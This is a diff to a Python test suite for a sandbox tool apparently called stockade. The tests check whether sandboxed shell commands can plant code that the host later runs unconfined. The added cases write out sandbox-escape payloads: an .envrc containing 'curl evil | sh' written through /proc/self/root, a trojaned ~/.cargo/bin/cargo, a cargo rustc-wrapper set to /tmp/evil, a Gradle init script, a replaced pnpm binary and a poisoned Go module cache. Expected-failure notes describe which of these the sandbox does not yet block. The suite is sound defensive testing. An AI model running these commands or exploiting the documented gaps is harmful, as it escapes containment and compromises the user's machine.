@@ -150,10 +150,13 @@ try vscode-mv      sh -c 'mkdir v && echo "{}" > v/tasks.json && mv -T v .vscode
 try claude         sh -c 'mkdir -p .claude && echo x > .claude/settings.json'
 try git-hook       sh -c 'mkdir -p .git/hooks && echo "touch /tmp/x" > .git/hooks/pre-commit'
 try git-config     sh -c 'printf "[core]\n\tfsmonitor = touch /tmp/x\n" >> .git/config'
+try git-replace    sh -c 'mv .git g && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit'
+try envrc-proc     sh -c 'echo "curl evil | sh" > "/proc/self/root$PWD/.envrc"'
+try vscode-proc    sh -c 'mkdir -p "/proc/self/root$PWD/.vscode/x"'
 """
 PROTECTED_NAMES_CHECKED = ("stockade-dir", "stockade-rm", "envrc", "envrc-rm", "envrc-mv",
                            "stockade-toml", "toml-mv", "vscode", "vscode-mv", "claude",
-                           "git-hook", "git-config")
+                           "git-hook", "git-config", "git-replace", "envrc-proc", "vscode-proc")
 
 
 def test_protected_names_cannot_be_created_and_stubs_vanish(box: Box) -> None:
@@ -243,3 +246,73 @@ def test_control_workspace_write_does_change_workspace(box: Box) -> None:
     tried = attempts(res)
     assert tried["create"] and tried["mkdir"], out
     assert snapshot(box.ws) != before
+
+
+# -- toolchain directories stockade makes writable -----------------------------------------
+#
+# hostpaths.scratch() binds existing toolchain directories under HOME read-write so
+# builds work. Caches are the point; but some of those directories also hold code
+# that the host runs later, unconfined. Each case plants such code; the verdict is
+# whether the planted path changed on the host.
+
+SCRATCH_CASES = [
+    pytest.param(
+        ".cargo/bin/cargo", "#!/bin/sh\nexec /usr/bin/true real-cargo\n",
+        'printf "#!/bin/sh\\necho TROJAN\\n" > "$HOME/.cargo/bin/cargo"',
+        id="cargo-bin",
+        marks=pytest.mark.xfail(strict=True, reason=(
+            "scratch binds all of ~/.cargo read-write, and ~/.cargo/bin is where cargo, rustc "
+            "and rustup live on the user's PATH: `echo ... > ~/.cargo/bin/cargo` in "
+            "workspace-write replaces the binary the user's next `cargo` runs unconfined"))),
+    pytest.param(
+        ".cargo/config.toml", None,
+        'printf "[build]\\nrustc-wrapper = \\"/tmp/evil\\"\\n" > "$HOME/.cargo/config.toml"',
+        id="cargo-config",
+        marks=pytest.mark.xfail(strict=True, reason=(
+            "scratch binds ~/.cargo read-write, so workspace-write can create "
+            "~/.cargo/config.toml with build.rustc-wrapper: every later host `cargo build` "
+            "runs the named program"))),
+    pytest.param(
+        ".gradle/init.d/evil.gradle", None,
+        'mkdir -p "$HOME/.gradle/init.d" && echo "println 1" > "$HOME/.gradle/init.d/evil.gradle"',
+        id="gradle-init",
+        marks=pytest.mark.xfail(strict=True, reason=(
+            "scratch binds ~/.gradle read-write, so workspace-write can add "
+            "~/.gradle/init.d/*.gradle, an init script every later host Gradle build runs"))),
+    pytest.param(
+        ".local/share/pnpm/pnpm", "#!/bin/sh\nexec /usr/bin/true real-pnpm\n",
+        'echo "echo TROJAN" > "$HOME/.local/share/pnpm/pnpm"',
+        id="pnpm-home",
+        marks=pytest.mark.xfail(strict=True, reason=(
+            "scratch binds PNPM_HOME (~/.local/share/pnpm) read-write; it holds pnpm's "
+            "global executables on the user's PATH, so workspace-write can replace them"))),
+    pytest.param(
+        "go/pkg/mod/example.com/dep@v1.0.0/dep.go", "package dep\n",
+        'd="$HOME/go/pkg/mod/example.com/dep@v1.0.0"; chmod u+w "$d" "$d/dep.go" && '
+        'echo "func init() { evil() }" >> "$d/dep.go"',
+        id="go-modcache",
+        marks=pytest.mark.xfail(strict=True, reason=(
+            "scratch binds GOMODCACHE (~/go/pkg/mod) read-write; go trusts extracted module "
+            "sources without re-hashing them, so an edited dependency is compiled into the "
+            "host's next `go build`"))),
+]
+
+
+@pytest.mark.parametrize(("rel", "original", "attack"), SCRATCH_CASES)
+def test_toolchain_dirs_cannot_plant_code_the_host_runs(box: Box, rel: str,
+                                                        original: str | None,
+                                                        attack: str) -> None:
+    target = box.home / rel
+    # The toolchain directory must exist on the host for stockade to bind it.
+    target.parent.mkdir(parents=True, exist_ok=True)
+    for d in [target.parent, *target.parent.parents]:
+        if d == box.home:
+            break
+        os.chmod(d, 0o755)
+        box.runner.own(d)
+    if original is not None:
+        box.write(target, original, 0o755)
+    before = target.read_bytes() if target.exists() else None
+    res = box.sh(attack, mode="workspace-write")
+    after = target.read_bytes() if target.exists() else None
+    assert after == before, f"{rel} changed on the host: {text(res)}"
